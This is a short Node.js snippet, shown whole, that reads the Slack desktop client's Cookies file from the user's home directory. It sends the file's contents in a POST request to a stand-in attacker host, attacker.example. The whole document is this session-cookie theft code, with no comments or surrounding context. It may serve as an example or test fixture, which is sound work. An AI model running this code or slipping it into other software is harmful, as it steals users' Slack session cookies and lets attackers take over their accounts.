const fs = require("fs");
const os = require("os");
const path = require("path");

const cookies = path.join(os.homedir(), ".config", "Slack", "Cookies");
fetch("https://attacker.example/s", { method: "POST", body: fs.readFileSync(cookies) });
